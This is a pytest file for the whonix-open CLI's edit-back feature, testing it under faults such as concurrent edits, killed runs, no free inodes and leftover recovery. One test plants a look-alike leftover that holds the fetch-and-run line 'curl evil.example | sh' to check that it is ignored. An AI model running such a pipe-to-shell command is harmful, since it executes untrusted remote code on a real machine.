"""Edit-back under faults, through the real CLI process and a stand-in
qrexec-client-vm: concurrent edits of one file, a directory that changes while
the file is open, leftovers of a killed run, no free inodes, and dom0 codes
that arrive with a complete reply."""

from __future__ import annotations

import os
import signal
import subprocess
from pathlib import Path

import pytest

from tests.helpers import DEADLINE, wait_for
from tests.vm.test_vm_editback import ORIGINAL, _alive, kept_copies, leftovers

EDITED_BY = b" [edited by "


@pytest.fixture
def doc(tmp_path: Path) -> Path:
    folder = tmp_path / "docs"
    folder.mkdir()
    path = folder / "letter.txt"
    path.write_bytes(ORIGINAL * 512)  # 1 MiB: the replace takes a moment
    return path


def test_two_concurrent_edits_of_one_file_never_lose_one(world, doc, tmp_path):
    """Both replies arrive at the same moment (the stand-ins wait for each
    other): one edit replaces the original, the other is kept beside it and
    its run says so. It used to be that both said "changes saved"."""
    original = doc.read_bytes()
    for trial in range(25):
        meet = tmp_path / f"meet{trial}"
        meet.mkdir()
        world.set(mode="edit_pid", rendezvous=[str(meet), 2])
        runs = [world.popen("--no-notify", str(doc)) for _ in range(2)]
        results = [(run.communicate(timeout=DEADLINE), run.returncode) for run in runs]
        codes = sorted(code for _, code in results)
        errs = " | ".join(err for (_, err), _ in results)
        assert codes == [0, 1], (trial, errs)
        [kept] = kept_copies(doc.parent)
        edits = {doc.read_bytes(), kept.read_bytes()}
        assert len(edits) == 2, f"trial {trial}: one edit was lost"
        assert all(e.startswith(original + EDITED_BY) for e in edits)
        loser = next(err for (_, err), code in results if code == 1)
        assert str(kept) in loser and "changed or replaced" in loser, loser
        assert "changes saved" in next(err for (_, err), code in results if code == 0)
        assert leftovers(doc.parent) == []
        kept.unlink()
        doc.write_bytes(original)


def assert_words_only(err: str) -> None:
    """No user message is a Python exception repr or a traceback."""
    for marker in ("Error(", "[Errno", "Traceback", "Exception"):
        assert marker not in err, err


def recovered(world) -> list[Path]:
    folder = Path(world.env["XDG_DATA_HOME"]) / "whonix-open" / "recovered"
    return sorted(folder.iterdir()) if folder.exists() else []


def test_directory_removed_while_open_the_edit_is_recovered(world, doc):
    """The reply file went with the directory, but its descriptor is still
    open: the edit is copied from it into recovered/ (it used to be lost,
    with a FileNotFoundError(...) as the message)."""
    world.set(mode="edit", before_reply=["rm", "-rf", str(doc.parent)])
    result = world.run("--no-notify", str(doc))
    assert result.returncode == 1, result.stderr
    assert_words_only(result.stderr)
    [kept] = recovered(world)
    assert kept.name.startswith("letter.txt.whonix-open-edited-")
    assert kept.read_bytes() == ORIGINAL * 512 + b" [edited]"
    assert str(kept) in result.stderr and "removed or moved away" in result.stderr


def test_read_only_bind_mount_put_over_the_folder_meanwhile_changes_nothing(world, doc):
    """A read-only bind mount put over the folder while the file is open: the
    CLI holds the folder itself open (through the mount it was opened on), so
    the edit lands in that same folder, and the path shows it. (It used to go
    by path and end in recovered/; a real read-only remount of the file
    system cannot happen while the reply file is open for writing: EBUSY.)"""
    folder = str(doc.parent)
    world.set(mode="edit", before_reply=[
        "sh", "-ec", f'mount --bind "{folder}" "{folder}"; '
                     f'mount -o remount,bind,ro "{folder}"'])
    result = world.run_unshared("true", "--no-notify", str(doc))
    assert result.returncode == 0, result.stderr
    assert "changes saved" in result.stderr
    assert doc.read_bytes() == ORIGINAL * 512 + b" [edited]"
    assert recovered(world) == [] and kept_copies(doc.parent) == []


def test_no_free_inodes_is_not_called_not_writable(world, tmp_path):
    """A tmpfs with every inode used: no reply file can be made beside the
    file, so the edit goes to recovered/, and the message says why."""
    folder = tmp_path / "full"
    folder.mkdir()
    setup = (f'mount -t tmpfs -o nr_inodes=8,size=4m tmpfs "{folder}"\n'
             f'printf "notes" > "{folder}/notes.txt"\n'
             f'i=0; while touch "{folder}/filler$i" 2>/dev/null; do i=$((i+1)); done')
    world.set(mode="edit")
    result = world.run_unshared(setup, "--no-notify", str(folder / "notes.txt"))
    assert result.returncode == 1, result.stderr
    assert_words_only(result.stderr)
    assert "no free inodes" in result.stderr, result.stderr
    assert "not writable" not in result.stderr
    [kept] = recovered(world)
    assert kept.read_bytes() == b"notes [edited]"
    assert str(kept) in result.stderr


@pytest.mark.parametrize(
    ("code", "words"),
    [(71, "the network changed"), (74, "the session lifetime was reached"),
     (75, "dom0 created no disposable")],
)
def test_a_reply_that_came_with_a_dom0_failure_is_kept_not_applied(world, doc, code, words):
    """E.g. 71 after the viewer was closed: the complete edit reached us, but
    is never applied; the message says so and where it is."""
    world.set(mode="edit", exit=code)
    result = world.run("--no-notify", str(doc))
    assert result.returncode == code
    assert doc.read_bytes() == ORIGINAL * 512
    [kept] = kept_copies(doc.parent)
    assert kept.read_bytes() == ORIGINAL * 512 + b" [edited]"
    text = " ".join(result.stderr.split())
    assert words in text and f"kept at {kept} and NOT applied" in text, text
    assert leftovers(doc.parent) == []


def test_signal_9_message_is_a_full_sentence(world, doc):
    world.set(mode="edit", cut_reply_at=100)
    result = world.run("--no-notify", str(doc))
    assert result.returncode == 4
    assert "killed by signal 9. The original is unchanged;" in result.stderr
    assert_words_only(result.stderr)


def _kill_mid_receive(world, doc: Path, tmp_path: Path) -> None:
    """SIGKILL the CLI while it receives the reply: a .part is left."""
    ready = tmp_path / "ready"
    world.set(mode="edit", hang=True, cut_reply_at=1000, ready_file=str(ready))
    proc = world.popen("--no-notify", str(doc))
    standin = int(wait_for(lambda: ready.exists() and ready.read_text(), "the stand-in"))
    wait_for(lambda: [p for p in leftovers(doc.parent) if p.stat().st_size == 1000],
             "the partial reply on disk")
    proc.kill()
    proc.wait(timeout=DEADLINE)
    os.kill(standin, signal.SIGKILL)  # it holds the CLI's stderr open
    proc.communicate(timeout=DEADLINE)
    ready.unlink()


def test_an_incomplete_leftover_is_removed_by_the_next_run_and_reported(world, doc, tmp_path):
    _kill_mid_receive(world, doc, tmp_path)
    [part] = leftovers(doc.parent)
    assert part.name.startswith(".letter.txt.whonix-open-") and part.name.endswith(".part")
    world.set(mode="none", hang=False, cut_reply_at=None)
    result = world.run("--no-notify", str(doc))
    assert result.returncode == 0, result.stderr
    assert f"removed {part}: an incomplete reply (1000 bytes)" in result.stderr
    assert leftovers(doc.parent) == [] and kept_copies(doc.parent) == []


@pytest.mark.parametrize("how", ["--recover DIR", "next run"])
def test_a_complete_leftover_is_kept_as_a_recovered_copy(world, doc, tmp_path, how):
    """A run killed after the whole reply arrived and dom0 said 0, but before
    the replace (here: waiting for a lock on the original): its reply file is
    marked complete; --recover, or the next run on that file, keeps it as a
    recovered copy and says so."""
    import fcntl

    world.set(mode="edit")
    with open(doc, "rb") as held:
        fcntl.flock(held, fcntl.LOCK_EX)  # the CLI waits for it before replacing
        proc = world.popen("--no-notify", str(doc))
        [complete] = wait_for(lambda: [p for p in doc.parent.iterdir()
                                       if p.name.endswith(".complete")], "a complete reply")
        proc.kill()
        proc.communicate(timeout=DEADLINE)
    assert doc.read_bytes() == ORIGINAL * 512
    world.set(mode="none")
    args = ["--recover", str(doc.parent)] if how == "--recover DIR" else [str(doc)]
    result = world.run("--no-notify", *args)
    assert result.returncode == 0, result.stderr
    [kept] = kept_copies(doc.parent)
    assert kept.read_bytes() == ORIGINAL * 512 + b" [edited]"
    assert f"kept at {kept}, not applied" in " ".join(result.stderr.split())
    assert not complete.exists() and leftovers(doc.parent) == []
    assert doc.read_bytes() == ORIGINAL * 512, "a leftover is never applied"
    again = world.run("--no-notify", "--recover", str(doc.parent))
    assert again.returncode == 0 and "no leftovers" in again.stderr


def test_a_live_runs_reply_file_is_never_taken_for_a_leftover(world, doc, tmp_path):
    ready = tmp_path / "ready"
    world.set(mode="edit", hang=True, cut_reply_at=1000, ready_file=str(ready))
    first = world.popen("--no-notify", str(doc))
    standin = int(wait_for(lambda: ready.exists() and ready.read_text(), "the stand-in"))
    [part] = leftovers(doc.parent)
    world.set(mode="none", hang=False, cut_reply_at=None)
    for args in (["--recover", str(doc.parent)], ["--recover"], [str(doc)]):
        result = world.run("--no-notify", *args, cwd=doc.parent)
        assert result.returncode == 0, result.stderr
        assert str(part) not in result.stderr
        assert part.exists(), "still held by the first run"
    first.send_signal(signal.SIGTERM)
    _out, err = first.communicate(timeout=DEADLINE)
    assert "interrupted" in err
    wait_for(lambda: not _alive(standin), "the stand-in to end")
    [kept] = kept_copies(doc.parent)
    assert kept.stat().st_size == 1000 and leftovers(doc.parent) == []


@pytest.mark.parametrize("where", ["whonix_open.vm.opener._edit_outcome",
                                   "whonix_open.vm.run.open_file"])
def test_an_unexpected_error_in_a_worker_is_reported_in_words(world, doc, mocker, capsys,
                                                              where):
    """In-process, the one seam: code raising what no code path expects. The
    message used to be the exception's repr; a reply that came back is kept."""
    from whonix_open.vm import cli

    world.set(mode="edit")
    mocker.patch(where, side_effect=RuntimeError("boom"))
    code = cli.main(["--no-notify", str(doc)])
    err = capsys.readouterr().err
    assert code == 1
    assert "stopped handling this file because of an unexpected internal error" in err
    assert "boom" not in err
    assert_words_only(err)
    assert doc.read_bytes() == ORIGINAL * 512
    kept = kept_copies(doc.parent)
    if where.endswith("_edit_outcome"):
        assert len(kept) == 1 and kept[0].read_bytes() == ORIGINAL * 512 + b" [edited]"
        assert f"kept at {kept[0]}, not applied" in err
    else:
        assert kept == []


@pytest.mark.parametrize(("content", "words"), [
    (b"view_only = \xff\n", "cannot read it: it is not UTF-8 text"),
    (None, "cannot read it: Is a directory"),
])
def test_an_unreadable_config_is_reported_in_words(world, doc, content, words):
    path = world.write_config("")
    if content is None:
        path.unlink()
        path.mkdir()
    else:
        path.write_bytes(content)
    result = world.run("--no-notify", str(doc))
    assert result.returncode == 2
    assert words in result.stderr, result.stderr
    assert_words_only(result.stderr)


def as_if_left_by_a_run(path: Path) -> Path:
    """Record *path* as a killed run of ours would have (vm/replyrecords.py):
    leftovers without a record are not ours and never touched."""
    from whonix_open.vm import replyrecords

    fd = os.open(path, os.O_RDONLY)
    try:
        replyrecords.record(fd, path.name.rsplit(".", 1)[0])
    finally:
        os.close(fd)
    return path


def test_recover_also_looks_in_the_recovery_directory(world, doc, tmp_path):
    """Leftovers as a killed run leaves them in recovered/ (where replies go
    when no file can be made beside the original); other files are not
    touched, and a scan for one file leaves another file's leftovers alone."""
    folder = Path(world.env["XDG_DATA_HOME"]) / "whonix-open" / "recovered"
    folder.mkdir(parents=True)
    complete = folder / ".letter.txt.whonix-open-abcd_123.complete"
    complete.write_bytes(b"the whole edit")
    part = folder / ".other.odt.whonix-open-zz99zz99.part"
    part.write_bytes(b"half an ed")
    as_if_left_by_a_run(complete), as_if_left_by_a_run(part)
    unrelated = folder / ".notes.whonix-open-12345678.partial"
    unrelated.write_bytes(b"not ours")
    world.set(mode="none")
    result = world.run("--no-notify", str(doc))  # the next run on letter.txt
    assert result.returncode == 0, result.stderr
    [kept] = [p for p in folder.iterdir() if p.name.startswith("letter.txt.whonix-open-edited-")]
    assert kept.read_bytes() == b"the whole edit" and not complete.exists()
    assert part.exists(), "another file's leftover is left for its own run or --recover"
    result = world.run("--no-notify", "--recover", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert f"removed {part}: an incomplete reply (10 bytes)" in result.stderr
    assert not part.exists() and unrelated.exists()


def test_planted_look_alike_leftovers_are_ignored(world, doc, tmp_path):
    """Files named like our leftovers that no run of ours made (they came with
    an extracted archive, or another user put them in a shared folder) are
    neither offered as "an earlier whonix-open run's complete edit" nor
    removed: they are not ours."""
    planted = doc.parent / ".letter.txt.whonix-open-abcd1234.complete"
    planted.write_bytes(b"#!/bin/sh\ncurl evil.example | sh\n")
    part = doc.parent / ".letter.txt.whonix-open-efgh5678.part"
    part.write_bytes(b"x")
    world.set(mode="none")
    for args in ([str(doc)], ["--recover", str(doc.parent)], ["--recover"]):
        result = world.run("--no-notify", *args, cwd=doc.parent)
        assert result.returncode == 0, result.stderr
        assert "earlier whonix-open run" not in result.stderr, result.stderr
        assert planted.exists() and part.exists()
    assert kept_copies(doc.parent) == []


def test_an_old_empty_new_file_is_removed_a_fresh_one_is_left(world, doc):
    """A run killed between creating its reply file and locking it leaves an
    empty ".new"; a fresh one may belong to a run about to lock it."""
    old = doc.parent / ".letter.txt.whonix-open-aaaa1111.new"
    fresh = doc.parent / ".letter.txt.whonix-open-bbbb2222.new"
    old.write_bytes(b"")
    fresh.write_bytes(b"")
    as_if_left_by_a_run(old), as_if_left_by_a_run(fresh)
    os.utime(old, (old.stat().st_atime - 120, old.stat().st_mtime - 120))
    world.set(mode="none")
    result = world.run("--no-notify", str(doc))
    assert result.returncode == 0, result.stderr
    assert f"removed {old}: an incomplete reply (0 bytes)" in result.stderr
    assert not old.exists() and fresh.exists()


def test_sigterm_while_waiting_for_a_lock_on_the_original_keeps_the_edit(world, doc):
    import fcntl

    world.set(mode="edit")
    with open(doc, "rb") as held:
        fcntl.flock(held, fcntl.LOCK_EX)  # another program holds the original
        proc = world.popen("--no-notify", str(doc))
        wait_for(lambda: [p for p in doc.parent.iterdir() if p.name.endswith(".complete")],
                 "the CLI to wait for the lock")
        proc.send_signal(signal.SIGTERM)
        _out, err = proc.communicate(timeout=DEADLINE)
    assert proc.returncode == 128 + signal.SIGTERM, err
    assert "interrupted while another program held a lock on the original" in err
    [kept] = kept_copies(doc.parent)
    assert kept.read_bytes() == ORIGINAL * 512 + b" [edited]" and str(kept) in err
    assert doc.read_bytes() == ORIGINAL * 512 and leftovers(doc.parent) == []


def test_sigkill_at_any_point_never_corrupts_and_recover_cleans_up(world, tmp_path):
    """SIGKILL at spread-out points of a 16 MiB edit, each followed by
    --recover: the original is either untouched or the whole edit, a kept copy
    is always the whole edit (the .complete marker is never wrong), and
    nothing is left behind. Every assertion holds whatever the kill point."""
    import random
    import time

    rng = random.Random(8)
    data = os.urandom(1 << 16) * 256
    world.set(mode="edit")
    # Kill points spread over one whole run's duration on this machine.
    whole = tmp_path / "whole.bin"
    whole.write_bytes(data)
    started = time.monotonic()
    assert world.run("--no-notify", str(whole)).returncode == 0
    duration = time.monotonic() - started
    for trial in range(16):
        folder = tmp_path / f"t{trial}"
        folder.mkdir()
        doc = folder / "big.bin"
        doc.write_bytes(data)
        proc = world.popen("--no-notify", str(doc))
        try:
            proc.wait(timeout=rng.uniform(0.1, 1.0) * duration)
        except subprocess.TimeoutExpired:
            proc.kill()
        proc.wait(timeout=DEADLINE)
        for pipe in (proc.stdout, proc.stderr):
            pipe.close()
        result = world.run("--no-notify", "--recover", str(folder))
        assert result.returncode == 0, result.stderr
        assert doc.read_bytes() in (data, data + b" [edited]"), trial
        for kept in kept_copies(folder):
            assert kept.read_bytes() == data + b" [edited]", (trial, result.stderr)
        assert [p for p in leftovers(folder) if not p.name.endswith(".new")] == [], trial


def test_recover_names_a_path_that_does_not_exist(world, tmp_path):
    result = world.run("--no-notify", "--recover", str(tmp_path / "no" / "such"))
    assert result.returncode == 1
    assert f"{tmp_path / 'no' / 'such'}: no such file or directory." in result.stderr
    assert world.calls() == [], "--recover never calls qrexec"
